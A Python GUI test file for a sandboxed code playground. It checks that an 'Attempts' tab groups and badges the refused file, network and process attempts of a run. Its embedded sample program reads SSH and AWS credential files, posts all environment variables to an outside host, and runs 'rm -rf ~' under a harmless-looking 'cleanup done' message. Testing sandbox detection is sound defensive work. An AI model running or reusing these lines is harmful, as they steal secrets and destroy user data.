"""Issue #15: the window shows what a run tried beyond the sandbox: the Attempts tab, its badge, the summary line."""

from __future__ import annotations

from tests.gui.conftest import Playground, save_artifact

SNOOP = """
import os, subprocess, urllib.request
for path in ('~/.ssh/id_rsa', '~/.aws/credentials'):
    try:
        open(os.path.expanduser(path)).read()
    except OSError:
        pass
try:
    urllib.request.urlopen('https://api.github.com/user', data=repr(dict(os.environ)).encode())
except Exception:
    pass
try:
    subprocess.run('rm -rf ~', shell=True)
except OSError:
    pass
print('cleanup done')
"""


def rows(pg: Playground) -> dict[str, list[tuple[str, str, str]]]:
    return dict(pg.window.attempts.groups())


def test_a_snooping_program_shows_its_attempts_grouped_with_a_badge(playground: Playground) -> None:
    pg = playground
    output = pg.run_code("python", SNOOP)
    assert "cleanup done" in output
    tabs = pg.window.tabs
    assert tabs.currentWidget() is pg.window.attempts  # shown at once
    assert tabs.tabText(tabs.indexOf(pg.window.attempts)) == "Attempts (4)"
    host, guest = "the sandbox", "the program's runtime (its own word)"
    assert rows(pg) == {
        "Files outside the sandbox (2)": [
            ("Tried to read ~/.ssh/id_rsa", "refused: not in the sandbox", host),
            ("Tried to read ~/.aws/credentials", "refused: not in the sandbox", host),
        ],
        "Network (1)": [("Tried to connect to api.github.com:443", "refused: no network in this sandbox", guest)],
        "Programs and signals (1)": [
            ("Tried to run the command `rm -rf ~`", "refused: no processes in this sandbox", guest)
        ],
    }
    summary = pg.summary()
    assert "exit 0" in summary and "tried: read ~/.ssh/id_rsa, read ~/.aws/credentials, connect api.github.com:443" \
        in summary and "and 1 more - all refused" in summary, summary  # fmt: skip
    assert "every one was refused" in pg.window.attempts.heading.text()
    shown = pg.window.attempts.report.toPlainText()
    assert "Tried to read ~/.ssh/id_rsa" in shown and "noticed by the program's runtime (its own word)" in shown
    save_artifact(pg.window, "attempts-panel.png")


def test_a_clean_run_clears_the_badge(playground: Playground) -> None:
    pg = playground
    pg.run_code("python", "import os\ntry:\n    os.listdir('/home')\nexcept OSError:\n    pass\n")
    assert pg.window.tabs.tabText(pg.window.tabs.indexOf(pg.window.attempts)) == "Attempts (1)"
    pg.run_code("python", "print('fine')\n")
    assert pg.window.tabs.tabText(pg.window.tabs.indexOf(pg.window.attempts)) == "Attempts"
    assert pg.window.attempts.groups() == [] and pg.window.attempts.report.toPlainText() == ""
    assert "tried nothing" in pg.window.attempts.heading.text() and "tried:" not in pg.summary()


def test_the_suspicious_gallery_is_in_the_examples_menu_and_shows_its_attempts(playground: Playground) -> None:
    pg = playground
    menus = {action.text(): action.menu() for action in pg.window.examples_menu.actions() if action.menu()}
    assert list(menus)[-1] == "Suspicious snippets", list(menus)
    gallery = menus["Suspicious snippets"]
    titles = [action.text() for action in gallery.actions()]
    assert "key reader" in titles and "telemetry" in titles and len(titles) == 6, titles
    before = pg.controller.runs_finished
    next(a for a in gallery.actions() if a.text() == "key reader").trigger()
    assert pg.window.current_language() == "python" and "SECRETS" in pg.window.code()
    pg.window.run_action.trigger()
    pg.wait_run(before)
    assert pg.window.tabs.tabText(pg.window.tabs.indexOf(pg.window.attempts)) == "Attempts (6)"
    assert dict(pg.window.attempts.groups())["Files outside the sandbox (6)"][0][0] == "Tried to read ~/.ssh/id_rsa"
    save_artifact(pg.window, "attempts-key-reader.png")
